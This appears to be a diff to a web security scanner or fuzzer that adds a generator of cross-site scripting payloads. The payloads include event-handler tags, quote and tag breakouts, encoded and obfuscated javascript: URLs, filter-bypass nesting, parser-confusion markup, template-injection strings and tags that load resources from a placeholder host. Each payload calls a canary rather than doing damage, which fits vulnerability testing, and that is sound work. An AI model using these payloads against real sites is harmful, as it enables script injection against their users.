@@ -119,3 +119,87 @@ def names(*, seed: int) -> list[str]:
     """Names of parameters that might be taken for a column, an order or a filter."""
     broken = [each for each in sql(seed=seed, many=60) if TOKEN in each]
     return [each.format(TOKEN) for each in NAMES] + broken[:12]
+
+
+_RUN = f"{TOKEN}(1)"  # the browser counts each call of this
+# Each runs by itself, with nobody touching it: the tag, what makes it act, and the event.
+_ACTS = (
+    ("img", "src=x", "onerror"),
+    ("image", "src=x", "onerror"),
+    ("svg", "id=x", "onload"),
+    ("iframe", "src=x", "onload"),
+    ("video", "src=x", "onerror"),
+    ("audio", "src=x", "onerror"),
+    ("details", "open", "ontoggle"),
+    ("input", "autofocus", "onfocus"),
+    ("textarea", "autofocus", "onfocus"),
+    ("body", "id=x", "onload"),
+    ("style", "id=x", "onload"),
+    ("object", "data=x", "onerror"),
+    ("link", "rel=stylesheet href=x", "onerror"),
+    ("marquee", "loop=1", "onstart"),
+)
+_EVENTS = ("onfocus", "onload", "onerror", "onmouseover", "onanimationstart", "onclick")
+_BREAKS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "</option></select>", "-->", "]]>", "</style>", "`>")
+_GAPS = (" ", "/", "\t", "\n", "\x0c")
+_LINKS = (
+    f"javascript:{_RUN}",
+    f"JaVaScRiPt:{_RUN}",
+    f"java\tscript:{_RUN}",
+    f"\x01javascript:{_RUN}",
+    f"javascript&colon;{_RUN}",
+    f"&#106;avascript:{_RUN}",
+    f"data:text/html,<script>{_RUN}</script>",
+    f"vbscript:{_RUN}",
+    f"//{TOKEN}.example/x",
+    f"javascript://%0a{_RUN}",
+)
+_WHOLE = (
+    f"<script>{_RUN}</script>",
+    f"<ScRiPt >{_RUN}</sCrIpT>",
+    f"<script src=data:,{_RUN}></script>",
+    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
+    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
+    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
+    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
+    f"＜script＞{_RUN}＜/script＞",
+    f"%3Cscript%3E{_RUN}%3C/script%3E",
+    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
+    f"'-{_RUN}-'",
+    f'"-{_RUN}-"',
+    f"\\'-{_RUN}//",
+    f"${{{_RUN}}}",
+    f"{{{{{_RUN}}}}}",
+    "{{7*7}}" + TOKEN,
+    f"{{% raw %}}{_RUN}",
+    f"{{{{constructor.constructor('{_RUN}')()}}}}",
+    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
+    f"<template><script>{_RUN}</script></template>",
+    f"<form><button formaction=javascript:{_RUN}>{TOKEN}",
+    f"<base href=//{TOKEN}.example/>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
+    f"<link rel=stylesheet href=//{TOKEN}.example/x.css>",
+    f"<style>@import '//{TOKEN}.example/x';</style>",
+    f"<div style=width:expression({_RUN})>{TOKEN}</div>",
+    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
+    f"<div hx-on:load={_RUN} hx-get=/ hx-trigger=load>{TOKEN}</div>",
+    f"<div data-hx-on--load={_RUN} {TOKEN}>",
+    f"<{TOKEN}>x</{TOKEN}>",
+    f"<a {TOKEN} id=config name=config>",
+)
+
+
+def script(*, seed: int, many: int) -> list[str]:
+    """`many` texts meant to run as script, or to become markup, wherever a page might put them."""
+    made = [
+        f"{broken}<{tag}{gap}{acting}{gap}{event}={quote}{_RUN}{quote}{gap}{TOKEN}>"
+        for broken, (tag, acting, event), gap, quote in product(_BREAKS, _ACTS, _GAPS, ("", '"', "'"))
+    ]
+    quotes = product(('"', "'", "", "`"), _EVENTS, _GAPS)
+    made += [f"x{quote}{gap}{event}={_RUN}{gap}autofocus{gap}{TOKEN}={quote}" for quote, event, gap in quotes]
+    made += [f"<a {TOKEN} href={quote}{link}{quote}>x</a>" for link in _LINKS for quote in ('"', "'", "")]
+    random.Random(seed).shuffle(made)
+    chosen = [*_WHOLE, *_LINKS, *made[: many - len(_WHOLE) - len(_LINKS)]]
+    random.Random(seed).shuffle(chosen)
+    return chosen
